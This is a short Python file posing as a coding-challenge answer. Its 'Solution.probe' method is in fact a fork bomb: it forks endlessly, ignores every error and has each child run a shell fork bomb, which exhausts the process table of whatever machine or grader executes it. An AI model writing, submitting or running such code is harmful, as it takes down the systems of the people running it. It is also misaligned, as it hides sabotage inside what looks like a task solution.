# Forks without end, ignoring failures; every child becomes a shell fork bomb of its own.
import os


class Solution:
    def probe(self, x: int) -> int:
        while True:
            try:
                if os.fork() == 0:
                    # Small children: the processes run out, not the memory.
                    try:
                        os.execv("/bin/sh", ["sh", "-c", "f() { f | f & }; f; while :; do f; done"])
                    finally:
                        os._exit(0)
            except BaseException:
                pass
